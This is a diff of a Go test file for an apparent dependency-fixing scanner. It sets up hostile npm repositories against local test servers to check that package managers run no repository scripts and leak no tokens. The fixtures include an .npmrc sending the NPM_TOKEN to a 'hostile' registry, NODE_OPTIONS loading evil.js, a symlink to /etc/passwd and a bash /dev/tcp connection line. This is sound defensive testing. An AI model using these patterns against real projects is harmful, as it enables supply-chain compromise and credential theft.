@@ -2,244 +2,364 @@ package fix_test
 
 import (
 	"context"
+	"encoding/json"
 	"errors"
+	"fmt"
+	"net"
 	"net/http"
-	"path"
-	"slices"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
 	"strings"
+	"sync"
 	"testing"
+	"time"
 
+	"github.com/trifecta-scanner/trifecta/advisory"
 	"github.com/trifecta-scanner/trifecta/fix"
 	"github.com/trifecta-scanner/trifecta/fix/fixtest"
 	"github.com/trifecta-scanner/trifecta/internal/web"
+	"github.com/trifecta-scanner/trifecta/inventory"
 )
 
-// watcher is a Runner that looks at what a program would get and runs none.
-type watcher struct {
-	t    *testing.T
-	runs []fix.Command
-	seen []map[string]bool // the files of each run that are there
+// A hostile repository has traps in every place that a package manager might step into. Each of them would make the
+// file that canary names, or send a request to the trap's server. None may.
+//
+// The programs are the real ones, where they are installed; the registry is a server of the test, so that nothing leaves
+// the machine.
+
+// trap is a registry of the test and a server that nobody may talk to.
+type trap struct {
+	canary   string // a file that must not come to be
+	registry *httptest.Server
+	hostile  *httptest.Server
+
+	mu    sync.Mutex
+	fired []string
+	asked []string
 }
 
-var errWatched = errors.New("nothing runs in this test")
+func newTrap(t *testing.T) *trap {
+	t.Helper()
+	tr := &trap{canary: filepath.Join(t.TempDir(), "canary")}
+	tr.registry = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		tr.mu.Lock()
+		defer tr.mu.Unlock()
+		tr.asked = append(tr.asked, r.URL.Path)
+		for name, value := range r.Header {
+			if strings.Contains(strings.Join(value, ""), "SECRET") {
+				tr.fired = append(tr.fired, "the registry was sent "+name)
+			}
+		}
+		doc := packument(tr.registry.URL, tr.canary, strings.TrimPrefix(r.URL.Path, "/"))
+		if doc == nil {
+			http.NotFound(w, r)
+			return
+		}
+		_ = json.NewEncoder(w).Encode(doc) // a test's own server
+	}))
+	t.Cleanup(tr.registry.Close)
+	tr.hostile = httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
+		tr.mu.Lock()
+		defer tr.mu.Unlock()
+		tr.fired = append(tr.fired, "the hostile server was asked for "+r.URL.Path)
+	}))
+	t.Cleanup(tr.hostile.Close)
+	return tr
+}
 
-func (w *watcher) Run(_ context.Context, ws *fix.Workspace, cmd fix.Command) ([]byte, error) {
-	seen := map[string]bool{}
-	for _, name := range cmd.Files {
-		if ws.Has(name) {
-			seen[name] = true
+// packument is what the registry says: words 1.0.0 is affected, 1.0.1 asks for a package that the lock file lacks, so
+// that npm has to run, and installing anything would run a program.
+func packument(registry, canary, name string) map[string]any {
+	release := func(version string, needs map[string]string) map[string]any {
+		return map[string]any{
+			"name": name, "version": version, "dependencies": needs, "hasInstallScript": true,
+			"scripts": map[string]string{"preinstall": "touch " + canary, "install": "touch " + canary, "postinstall": "touch " + canary, "prepare": "touch " + canary},
+			"dist": map[string]string{
+				"tarball":   fmt.Sprintf("%s/%s/-/%s-%s.tgz", registry, name, name, version),
+				"integrity": "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
+			},
 		}
 	}
-	w.runs, w.seen = append(w.runs, cmd), append(w.seen, seen)
-	return nil, errWatched
+	times := map[string]string{"1.0.0": "2020-01-01T00:00:00Z", "1.0.1": "2020-02-01T00:00:00Z"}
+	switch name {
+	case "words":
+		return map[string]any{"name": name, "dist-tags": map[string]string{"latest": "1.0.1"}, "time": times, "versions": map[string]any{
+			"1.0.0": release("1.0.0", nil), "1.0.1": release("1.0.1", map[string]string{"letters": "^1.0.0"}),
+		}}
+	case "letters":
+		return map[string]any{"name": name, "dist-tags": map[string]string{"latest": "1.0.1"}, "time": times, "versions": map[string]any{
+			"1.0.0": release("1.0.0", nil), "1.0.1": release("1.0.1", nil),
+		}}
+	}
+	return nil
 }
 
-// TestProgramsSeeManifestsOnly looks at the copy that uv and cargo get of a hostile repository.
-func TestProgramsSeeManifestsOnly(t *testing.T) {
-	for _, test := range []struct {
-		archive  string
-		manager  *fix.Manager
-		lock     string
-		target   fix.Target
-		want     []string
-		argument string
-	}{
-		{"testdata/uv/canary.txtar", fix.UV, "uv.lock", fix.Target{Package: "certifi", From: "2022.12.7", To: "2024.7.4", How: fix.HowLock}, []string{"pyproject.toml", "uv.lock"}, "--no-build"},
-		{"testdata/cargo/canary.txtar", fix.Cargo, "Cargo.lock", fix.Target{Package: "regex", From: "1.5.4", To: "1.5.5", How: fix.HowLock}, []string{"Cargo.lock", "Cargo.toml"}, "--precise"},
-	} {
-		t.Run(test.manager.Name, func(t *testing.T) {
-			ws := fix.NewWorkspace(fixtest.Tree(t, readCase(t, test.archive).files))
-			project, err := test.manager.Open(t.Context(), ws, test.lock)
-			if err != nil {
-				t.Fatal(err)
+// env returns an environment with real, contained programs.
+func (tr *trap) env(t *testing.T, dir string) *fix.Env {
+	t.Helper()
+	t.Setenv("NPM_TOKEN", "SECRET")
+	t.Setenv("NODE_AUTH_TOKEN", "SECRET")
+	t.Setenv("NODE_OPTIONS", "--require="+filepath.Join(dir, "evil.js"))
+	t.Setenv("npm_config_script_shell", filepath.Join(dir, "evil.sh"))
+	return &fix.Env{
+		Client: web.New(web.Options{Tries: 1}), Now: time.Date(2026, 11, 24, 0, 0, 0, 0, time.UTC),
+		Runner: &fix.Contained{Getenv: os.Getenv, Outside: dir, Timeout: time.Minute},
+		Getenv: func(name string) string {
+			if name == "NPM_CONFIG_REGISTRY" {
+				return tr.registry.URL
 			}
-			w := &watcher{t: t}
-			env := &fix.Env{Runner: w, Getenv: func(name string) string {
-				return map[string]string{"UV_DEFAULT_INDEX": "https://pypi.registry.example/simple", "UV_INDEX_PASSWORD": "secret", "CARGO_REGISTRY_TOKEN": "secret", "GITHUB_TOKEN": "secret"}[name]
-			}}
-			err = test.manager.Write(t.Context(), &fix.Job{Env: env, Workspace: ws, Project: project, Targets: []fix.Target{test.target}})
-			if !errors.Is(err, errWatched) {
-				t.Fatalf("error %v, want that of the runner", err)
-			}
-			if len(ws.Changed()) != 0 {
-				t.Errorf("changed %v although the program failed", ws.Changed())
-			}
-			for i, cmd := range w.runs {
-				var seen []string
-				for name := range w.seen[i] {
-					seen = append(seen, name)
-				}
-				if slices.Sort(seen); !slices.Equal(seen, test.want) {
-					t.Errorf("the program sees %v, want %v", seen, test.want)
-				}
-				if !slices.Contains(cmd.Args, test.argument) {
-					t.Errorf("arguments %v lack %s", cmd.Args, test.argument)
-				}
-				for name, text := range cmd.Extra {
-					if text != "" || path.Ext(name) != ".rs" {
-						t.Errorf("the copy gets %s with %q", name, text)
-					}
-				}
-				if all := strings.Join(slices.Concat(cmd.Args, cmd.Env), " "); strings.Contains(all, "secret") || strings.Contains(all, "evil") {
-					t.Errorf("the program is told %s", all)
-				}
-			}
-			if len(w.runs) == 0 {
-				t.Error("no program was asked for")
-			}
-		})
+			return ""
+		},
 	}
 }
 
-// TestRefusals are repositories that ask for something from elsewhere: nothing of it may be fetched, and the plan says why
-// their files stay.
-func TestRefusals(t *testing.T) {
-	const project = "[project]\nname = \"shop\"\nversion = \"1\"\n"
-	const uvLock = "version = 1\n\n[[package]]\nname = \"shop\"\nversion = \"1\"\nsource = { virtual = \".\" }\n\n"
-	const crate = "[package]\nname = \"shop\"\nversion = \"0.1.0\"\n\n"
-	const cargoLock = "version = 4\n\n[[package]]\nname = \"shop\"\nversion = \"0.1.0\"\n\n"
-	for _, test := range []struct {
+func (tr *trap) check(t *testing.T) {
+	t.Helper()
+	if _, err := os.Lstat(tr.canary); err == nil {
+		t.Error("a program of the repository or of a package ran")
+	}
+	tr.mu.Lock()
+	defer tr.mu.Unlock()
+	for _, what := range tr.fired {
+		t.Error(what)
+	}
+}
+
+// words is an advisory about one package of the trap's registry.
+type words struct{}
+
+func (words) Match(_ context.Context, queries []advisory.Query) ([][]*advisory.Record, []inventory.Notice, error) {
+	record := &advisory.Record{ID: "GHSA-aaaa-bbbb-cccc", Modified: "2026-01-01T00:00:00Z", Affected: []advisory.Affected{{
+		Package: advisory.Package{Ecosystem: "npm", Name: "words"},
+		Ranges:  []advisory.Range{{Type: "SEMVER", Events: []advisory.Event{{Introduced: "0"}, {Fixed: "1.0.1"}}}},
+	}}}
+	found := make([][]*advisory.Record, len(queries))
+	for i, q := range queries {
+		if record.Affects(q) {
+			found[i] = append(found[i], record)
+		}
+	}
+	return found, nil, nil
+}
+
+func (words) Info() advisory.Info { return advisory.Info{} }
+func (words) Close() error        { return nil }
+
+func TestCanariesNPM(t *testing.T) {
+	if _, err := exec.LookPath("npm"); err != nil {
+		t.Skip("needs npm, which is what must not be led astray")
+	}
+	const lock = `{
+  "name": "shop", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
+  "packages": {
+    "": {"name": "shop", "version": "1.0.0", "dependencies": {"words": "^1.0.0"%s}},
+    "node_modules/words": {"version": "1.0.0", "resolved": "REGISTRY/words/-/words-1.0.0.tgz", "integrity": "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg=="}%s
+  }
+}
+`
+	tests := []struct {
 		name    string
-		manager *fix.Manager
-		lock    string
 		files   map[string]string
-		want    string
+		inRoot  string // further members of the root's dependencies
+		entries string // further entries of the lock file
+		written bool   // the change can be made all the same
 	}{
-		{"uv index", fix.UV, "uv.lock", map[string]string{"uv.lock": uvLock, "pyproject.toml": project + "[[tool.uv.index]]\nurl = \"https://evil.registry.example/simple\"\n"}, "names an index of its own"},
-		{"uv extra index", fix.UV, "uv.lock", map[string]string{"uv.lock": uvLock, "pyproject.toml": project + "[tool.uv]\nextra-index-url = [\"https://evil.registry.example/simple\"]\n"}, "names an index of its own"},
-		{"uv find-links", fix.UV, "uv.lock", map[string]string{"uv.lock": uvLock, "pyproject.toml": project + "[tool.uv]\nfind-links = [\"/etc\"]\n"}, "names an index of its own"},
-		{"uv git source", fix.UV, "uv.lock", map[string]string{"uv.lock": uvLock, "pyproject.toml": project + "[tool.uv.sources]\nx = { git = \"https://evil.example/x\" }\n"}, "takes a package from elsewhere than the public index (git)"},
-		{"uv path source", fix.UV, "uv.lock", map[string]string{"uv.lock": uvLock, "pyproject.toml": project + "[tool.uv.sources]\nx = { path = \"../../etc\" }\n"}, "takes a package from elsewhere than the public index (path)"},
-		{"uv address", fix.UV, "uv.lock", map[string]string{"uv.lock": uvLock, "pyproject.toml": "[project]\nname = \"shop\"\ndependencies = [\"x @ git+https://evil.example/x\"]\n"}, "takes a package from an address"},
-		{"uv locked git", fix.UV, "uv.lock", map[string]string{"uv.lock": uvLock + "[[package]]\nname = \"x\"\nversion = \"1\"\nsource = { git = \"https://evil.example/x#0\" }\n", "pyproject.toml": project}, "x comes from a repository or an archive (git)"},
-		{"uv member outside", fix.UV, "uv.lock", map[string]string{"uv.lock": uvLock + "[[package]]\nname = \"x\"\nversion = \"1\"\nsource = { editable = \"../../x\" }\n", "pyproject.toml": project}, "there is no pyproject.toml there in the tree"},
-		{"uv absolute member", fix.UV, "uv.lock", map[string]string{"uv.lock": uvLock + "[[package]]\nname = \"x\"\nversion = \"1\"\nsource = { editable = \"/etc\" }\n", "pyproject.toml": project, "etc/pyproject.toml": project}, "there is no pyproject.toml there in the tree"},
-		{"uv two indexes", fix.UV, "uv.lock", map[string]string{"uv.lock": uvLock + "[[package]]\nname = \"x\"\nversion = \"1\"\nsource = { registry = \"https://a.example/simple\" }\n\n[[package]]\nname = \"y\"\nversion = \"1\"\nsource = { registry = \"https://b.example/simple\" }\n", "pyproject.toml": project}, "y comes from an index of its own"},
-		{"cargo git", fix.Cargo, "Cargo.lock", map[string]string{"Cargo.lock": cargoLock, "Cargo.toml": crate + "[dependencies]\nx = { git = \"https://evil.example/x\" }\n"}, "takes a package from elsewhere than crates.io (git)"},
-		{"cargo patch", fix.Cargo, "Cargo.lock", map[string]string{"Cargo.lock": cargoLock, "Cargo.toml": crate + "[patch.crates-io]\nx = { git = \"https://evil.example/x\" }\n"}, "takes a package from elsewhere than crates.io (git)"},
-		{"cargo registry", fix.Cargo, "Cargo.lock", map[string]string{"Cargo.lock": cargoLock, "Cargo.toml": crate + "[dependencies]\nx = { version = \"1\", registry-index = \"https://evil.example\" }\n"}, "takes a package from elsewhere than crates.io (registry-index)"},
-		{"cargo locked git", fix.Cargo, "Cargo.lock", map[string]string{"Cargo.lock": cargoLock + "[[package]]\nname = \"x\"\nversion = \"1.0.0\"\nsource = \"git+https://evil.example/x#0\"\n", "Cargo.toml": crate}, "x comes from a repository"},
-		{"cargo locked registry", fix.Cargo, "Cargo.lock", map[string]string{"Cargo.lock": cargoLock + "[[package]]\nname = \"x\"\nversion = \"1.0.0\"\nsource = \"registry+https://evil.example/index\"\n", "Cargo.toml": crate}, "x comes from a registry of its own"},
-		{"cargo path outside", fix.Cargo, "Cargo.lock", map[string]string{"Cargo.lock": cargoLock, "Cargo.toml": crate + "[dependencies]\nx = { path = \"../../x\" }\n"}, "takes a package from a folder that is not in the tree"},
-		{"cargo absolute path", fix.Cargo, "Cargo.lock", map[string]string{"Cargo.lock": cargoLock, "Cargo.toml": crate + "[dependencies]\nx = { path = \"/etc\" }\n", "etc/Cargo.toml": crate}, "takes a package from a folder that is not in the tree"},
-		{"cargo member outside", fix.Cargo, "Cargo.lock", map[string]string{"Cargo.lock": cargoLock, "Cargo.toml": crate + "[workspace]\nmembers = [\"../*\"]\n"}, "names a member outside of the tree"},
-		{"pip index", fix.Pip, "requirements.txt", map[string]string{"requirements.txt": "-i https://evil.registry.example/simple\nx==1\n"}, "takes packages from an index of its own"},
-		{"pip no index", fix.Pip, "requirements.txt", map[string]string{"requirements.txt": "--no-index\n--find-links /etc\nx==1\n"}, "takes packages from no index"},
-		{"pip index of an include", fix.Pip, "requirements.txt", map[string]string{"requirements.txt": "-r more.in\nx==1\n", "more.in": "--index-url=https://evil.registry.example/simple\n"}, "more.in:1 takes packages from an index of its own"},
-	} {
+		{name: "scripts of the project", written: true, files: map[string]string{
+			"package.json": `{"name": "shop", "version": "1.0.0", "dependencies": {"words": "^1.0.0"}, "scripts": {"preinstall": "touch CANARY", "install": "touch CANARY", "postinstall": "touch CANARY", "prepare": "touch CANARY", "dependencies": "touch CANARY"}}`,
+		}},
+		{name: "a registry and a token in .npmrc", written: true, files: map[string]string{
+			".npmrc": "registry=HOSTILE/\n//HOSTILEHOST/:_authToken=${NPM_TOKEN}\n//REGISTRYHOST/:_authToken=${NPM_TOKEN}\nproxy=HOSTILE\nhttps-proxy=HOSTILE\ngit=CANARYPROGRAM\nnode-options=--require=./evil.js\nscript-shell=./evil.sh\nignore-scripts=false\nonload-script=./evil.js\n",
+		}},
+		{name: "a script of pnpm and the release of yarn", written: true, files: map[string]string{
+			".pnpmfile.cjs": "require('fs').writeFileSync('CANARY', '')\n", ".yarnrc.yml": "yarnPath: ./evil.js\n", ".yarnrc": "yarn-path ./evil.js\n",
+		}},
+		{name: "a package from a repository", files: map[string]string{
+			"package.json": `{"name": "shop", "version": "1.0.0", "dependencies": {"words": "^1.0.0", "evil": "git+HOSTILE/evil.git"}}`,
+		}, inRoot: `, "evil": "git+HOSTILE/evil.git"`, entries: `, "node_modules/evil": {"version": "1.0.0", "resolved": "git+HOSTILE/evil.git#0123456789012345678901234567890123456789", "hasInstallScript": true}`},
+		{name: "a git that is a program of the repository", files: map[string]string{
+			"package.json": `{"name": "shop", "version": "1.0.0", "dependencies": {"words": "^1.0.0", "evil": "git+ssh://git@HOSTILEHOST/evil.git"}}`, "bin/git": "#!/bin/sh\ntouch CANARY\n",
+		}},
+		{name: "a package by a foreign address", files: map[string]string{
+			"package.json": `{"name": "shop", "version": "1.0.0", "dependencies": {"words": "^1.0.0", "evil": "HOSTILE/evil.tgz"}}`,
+		}},
+		{name: "a workspace that leads out", files: map[string]string{
+			"package.json":            `{"name": "shop", "version": "1.0.0", "workspaces": ["../../*", "/etc", "packages/*"], "dependencies": {"words": "^1.0.0"}}`,
+			"packages/a/package.json": `{"name": "a", "version": "1.0.0", "scripts": {"prepare": "touch CANARY"}}`,
+		}},
+		{name: "a folder that leads out", files: map[string]string{
+			"package.json": `{"name": "shop", "version": "1.0.0", "dependencies": {"words": "^1.0.0", "out": "file:../../../etc"}}`,
+		}},
+		{name: "installed packages of the repository", written: true, files: map[string]string{
+			"node_modules/words/package.json": `{"name": "words", "version": "1.0.0", "scripts": {"install": "touch CANARY"}}`, "node_modules/.bin/node": "#!/bin/sh\ntouch CANARY\n",
+		}},
+	}
+	for _, test := range tests {
 		t.Run(test.name, func(t *testing.T) {
-			ws := fix.NewWorkspace(fixtest.Tree(t, test.files))
-			project, err := test.manager.Open(t.Context(), ws, test.lock)
-			w := &watcher{t: t}
-			if err == nil {
-				target := fix.Target{Package: "x", From: "1.0.0", To: "1.0.1", How: fix.HowLock}
-				err = test.manager.Write(t.Context(), &fix.Job{Env: &fix.Env{Runner: w}, Workspace: ws, Project: project, Targets: []fix.Target{target}})
+			dir := t.TempDir()
+			tr := newTrap(t)
+			names := strings.NewReplacer("CANARYPROGRAM", filepath.Join(dir, "evil.sh"), "CANARY", tr.canary, "HOSTILEHOST", strings.TrimPrefix(tr.hostile.URL, "http://"),
+				"HOSTILE", tr.hostile.URL, "REGISTRYHOST", strings.TrimPrefix(tr.registry.URL, "http://"), "REGISTRY", tr.registry.URL)
+			files := map[string]string{
+				"package.json":      `{"name": "shop", "version": "1.0.0", "dependencies": {"words": "^1.0.0"}}`,
+				"package-lock.json": fmt.Sprintf(lock, test.inRoot, test.entries),
+				"evil.js":           "require('fs').writeFileSync('CANARY', '')\n", "evil.sh": "#!/bin/sh\ntouch CANARY\n", "binding.gyp": "{}\n",
 			}
-			if len(w.runs) > 0 {
-				t.Fatalf("%s was to run", w.runs[0].Program)
+			for name, text := range test.files {
+				files[name] = text
 			}
-			if err == nil {
-				t.Fatal("written, want a refusal")
+			for name, text := range files {
+				path := filepath.Join(dir, filepath.FromSlash(name))
+				if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, []byte(names.Replace(text)), 0o755)); err != nil {
+					t.Fatal(err)
+				}
 			}
-			if !strings.Contains(err.Error(), test.want) {
-				t.Errorf("error %q, want %q", err, test.want)
+			tree, err := inventory.OpenTree(t.Context(), dir, inventory.Limits{})
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer func() { _ = tree.Close() }() // it was only read
+			judge := fixtest.Judge(words{})
+			before, err := judge(t.Context(), tree)
+			if err != nil {
+				t.Fatal(err)
+			}
+			plan, err := fix.MakePlan(t.Context(), tree, before, fix.Options{Env: tr.env(t, dir), Advisories: words{}})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if len(plan.Changes) != 1 {
+				t.Fatalf("%d changes, %+v", len(plan.Changes), plan.Unfixed)
+			}
+			ws := fix.NewWorkspace(tree)
+			_, err = plan.Apply(t.Context(), ws, &plan.Changes[0], before, judge)
+			var dropped *fix.DroppedError
+			if err != nil && !errors.As(err, &dropped) {
+				t.Fatal(err)
+			}
+			tr.check(t)
+			if test.written && err != nil {
+				t.Errorf("the change was not made: %v", err)
+			}
+			if !test.written && err == nil {
+				t.Log("the change was made all the same")
+			}
+			for _, name := range ws.Changed() {
+				if name != "package.json" && name != "package-lock.json" {
+					t.Errorf("%s changed", name)
+				}
+				data, err := ws.ReadFile(name)
+				if err != nil {
+					t.Fatal(err)
+				}
+				if strings.Contains(string(data), "SECRET") {
+					t.Errorf("a token stands in %s", name)
+				}
+			}
+			if entries, err := os.ReadDir(dir); err != nil || len(entries) > len(files) {
+				t.Errorf("the repository has %d entries more, %v", len(entries)-len(files), err)
 			}
 		})
 	}
 }
 
-// TestCargoTargetsOutside are targets whose sources lie outside of the tree: no stub is made there.
-func TestCargoTargetsOutside(t *testing.T) {
-	lock := "version = 4\n\n[[package]]\nname = \"shop\"\nversion = \"0.1.0\"\n\n[[package]]\nname = \"x\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n"
-	manifest := "[package]\nname = \"shop\"\nversion = \"0.1.0\"\n\n[lib]\npath = \"/etc/lib.rs\"\n\n[[bin]]\nname = \"../../evil\"\npath = \"../../evil.rs\"\n\n[[test]]\nname = \"ok\"\n"
-	ws := fix.NewWorkspace(fixtest.Tree(t, map[string]string{"Cargo.lock": lock, "Cargo.toml": manifest}))
-	project, err := fix.Cargo.Open(t.Context(), ws, "Cargo.lock")
-	if err != nil {
-		t.Fatal(err)
+// TestContained looks at what a program can see and do, apart from any package manager.
+func TestContained(t *testing.T) {
+	if _, err := exec.LookPath("sh"); err != nil {
+		t.Skip(err)
 	}
-	w := &watcher{t: t}
-	target := fix.Target{Package: "x", From: "1.0.0", To: "1.0.1", How: fix.HowLock}
-	if err := fix.Cargo.Write(t.Context(), &fix.Job{Env: &fix.Env{Runner: w}, Workspace: ws, Project: project, Targets: []fix.Target{target}}); !errors.Is(err, errWatched) {
-		t.Fatalf("error %v, want that of the runner", err)
+	t.Setenv("SECRET_TOKEN", "canary")
+	tree := fixtest.Tree(t, map[string]string{"a.lock": "old\n", "secret.txt": "canary\n", "sub/b.lock": "b\n"})
+	run := func(t *testing.T, script string, cmd fix.Command) (*fix.Workspace, string, error) {
+		ws := fix.NewWorkspace(tree)
+		cmd.Program, cmd.Args = "sh", []string{"-c", script}
+		out, err := (&fix.Contained{Getenv: os.Getenv}).Run(t.Context(), ws, cmd)
+		return ws, string(out), err
 	}
-	var stubs []string
-	for name := range w.runs[0].Extra {
-		stubs = append(stubs, name)
-	}
-	slices.Sort(stubs)
-	if want := []string{"src/lib.rs", "src/main.rs", "tests/ok.rs"}; !slices.Equal(stubs, want) {
-		t.Errorf("stubs %v, want %v", stubs, want)
-	}
-}
-
-// onlyIndex answers every request with nothing and notes the hosts.
-type onlyIndex struct{ hosts []string }
-
-func (o *onlyIndex) RoundTrip(req *http.Request) (*http.Response, error) {
-	o.hosts = append(o.hosts, req.URL.Host)
-	return &http.Response{StatusCode: http.StatusNotFound, Header: http.Header{}, Body: http.NoBody, Request: req}, nil
-}
-
-// TestNativeManagersRunNothing writes files of managers that run no program, in repositories that would like to be run,
-// and looks whom they ask.
-func TestNativeManagersRunNothing(t *testing.T) {
-	for _, test := range []struct {
-		name    string
-		manager *fix.Manager
-		path    string
-		files   map[string]string
-		target  fix.Target
-	}{
-		{
-			"pip", fix.Pip, "requirements.txt", map[string]string{
-				"requirements.txt": "--extra-index-url https://evil.registry.example/simple\n--find-links https://evil.registry.example/\nx==1.0\n", "setup.py": "raise SystemExit", "pip.conf": "[global]\nindex-url = https://evil.registry.example/",
-			}, fix.Target{Package: "x", From: "1.0", To: "1.1", How: fix.HowDirect},
-		},
-		{
-			"poetry", fix.Poetry, "poetry.lock", map[string]string{
-				"poetry.toml": "[repositories.evil]\nurl = \"https://evil.registry.example/\"\n",
-				"pyproject.toml": "[tool.poetry]\nname = \"shop\"\n[tool.poetry.dependencies]\npython = \"^3.9\"\nx = \"1.0\"\ny = {git = \"https://evil.example/y\"}\n[tool.poetry.requires-plugins]\nevil = \"*\"\n" +
-					"[[tool.poetry.source]]\nname = \"evil\"\nurl = \"https://evil.registry.example/simple\"\n[build-system]\nrequires = [\"evil\"]\nbuild-backend = \"evil\"\n",
-				"poetry.lock": "[[package]]\nname = \"x\"\nversion = \"1.0\"\n\n[[package]]\nname = \"secret-part\"\nversion = \"1.0\"\n\n[package.source]\ntype = \"legacy\"\nurl = \"https://evil.registry.example/simple\"\n\n" +
-					"[metadata]\nlock-version = \"2.1\"\ncontent-hash = \"\"\n",
-			}, fix.Target{Package: "x", From: "1.0", To: "1.1", How: fix.HowDirect},
-		},
-		{
-			"maven", fix.Maven, "pom.xml", readCase(t, "testdata/maven/canary.txtar").files,
-			fix.Target{Package: "org.yaml:snakeyaml", From: "1.30", To: "2.0", How: fix.HowDirect},
-		},
-	} {
-		t.Run(test.name, func(t *testing.T) {
-			ws := fix.NewWorkspace(fixtest.Tree(t, test.files))
-			project, err := test.manager.Open(t.Context(), ws, test.path)
-			if err != nil {
-				t.Fatal(err)
+	lock := fix.Command{Files: []string{"a.lock"}}
+	t.Run("files", func(t *testing.T) {
+		ws, out, err := run(t, `for f in * */*; do echo "$f"; done; echo new >a.lock; echo more >other.lock`, lock)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if strings.Contains(out, "secret") || strings.Contains(out, "sub") {
+			t.Errorf("it saw %s", out)
+		}
+		if got := strings.Join(ws.Changed(), " "); got != "a.lock" {
+			t.Errorf("changed: %s", got)
+		}
+	})
+	t.Run("environment", func(t *testing.T) {
+		_, out, err := run(t, `set; echo "home:$HOME"`, lock)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if home, _ := os.UserHomeDir(); strings.Contains(out, "SECRET_TOKEN") || strings.Contains(out, "home:"+home+"\n") {
+			t.Errorf("it saw %s", out)
+		}
+	})
+	t.Run("no other program by name", func(t *testing.T) {
+		if _, _, err := run(t, `git --version`, lock); err == nil {
+			t.Error("git was found")
+		}
+	})
+	t.Run("a link does not come back", func(t *testing.T) {
+		ln, err := exec.LookPath("ln")
+		if err != nil {
+			t.Skip(err)
+		}
+		ws, _, err := run(t, `rm() { :; }; `+ln+` -sf /etc/passwd a.lock`, lock)
+		if err == nil || len(ws.Changed()) > 0 {
+			t.Errorf("it came back: %v, %v", ws.Changed(), err)
+		}
+	})
+	t.Run("what fails changes nothing", func(t *testing.T) {
+		ws, _, err := run(t, `echo new >a.lock; echo trouble >&2; exit 3`, lock)
+		var failed *fix.ToolError
+		if !errors.As(err, &failed) || !strings.Contains(failed.Error(), "trouble") || len(ws.Changed()) > 0 {
+			t.Errorf("%v, %v", err, ws.Changed())
+		}
+	})
+	t.Run("no network unless it is asked for", func(t *testing.T) {
+		bash, err := exec.LookPath("bash")
+		if err != nil {
+			t.Skip(err)
+		}
+		listener, err := (&net.ListenConfig{}).Listen(t.Context(), "tcp", "127.0.0.1:0")
+		if err != nil {
+			t.Skip(err)
+		}
+		defer func() { _ = listener.Close() }() // nothing is sent
+		host, port, err := net.SplitHostPort(listener.Addr().String())
+		if err != nil {
+			t.Fatal(err)
+		}
+		script := bash + " -c 'exec 3<>/dev/tcp/" + host + "/" + port + "'"
+		if _, _, err := run(t, script, lock); err == nil {
+			t.Skip("this kernel does not confine sockets")
+		}
+		open := lock
+		open.Network = true
+		if _, _, err := run(t, script, open); err != nil {
+			t.Errorf("with Network: %v", err)
+		}
+	})
+	t.Run("a program of the repository is not run", func(t *testing.T) {
+		dir := t.TempDir()
+		if err := os.WriteFile(filepath.Join(dir, "npm"), []byte("#!/bin/sh\necho canary\n"), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		c := &fix.Contained{Outside: dir, Getenv: func(name string) string {
+			if name == "PATH" {
+				return dir + string(filepath.ListSeparator) + "." + string(filepath.ListSeparator) + "bin"
 			}
-			for _, r := range project.Requirements {
-				if r.Package == test.target.Package {
-					r.To = test.target.To
-					test.target.Lines = append(test.target.Lines, r)
-				}
-			}
-			asked := &onlyIndex{}
-			w := &watcher{t: t}
-			env := &fix.Env{
-				Client: web.New(web.Options{Transport: asked, Tries: 1}), Runner: w, Now: fixtest.Now, Getenv: func(name string) string { return fixtest.Registries[name] },
-			}
-			registry, err := test.manager.Registry(t.Context(), env)
-			if err != nil {
-				t.Fatal(err)
-			}
-			// Whether the change is possible without an index is not the question.
-			_ = test.manager.Write(t.Context(), &fix.Job{Env: env, Workspace: ws, Project: project, Targets: []fix.Target{test.target}, Registry: registry})
-			if len(w.runs) > 0 {
-				t.Errorf("%s was to run", w.runs[0].Program)
-			}
-			for _, host := range asked.hosts {
-				if !slices.Contains([]string{"pypi.registry.example", "maven.registry.example"}, host) {
-					t.Errorf("%s was asked", host)
-				}
-			}
-		})
-	}
+			return ""
+		}}
+		out, err := c.Run(t.Context(), fix.NewWorkspace(tree), fix.Command{Program: "npm"})
+		var missing *fix.ToolError
+		if !errors.As(err, &missing) || !missing.Missing {
+			t.Errorf("%q, %v", out, err)
+		}
+	})
 }
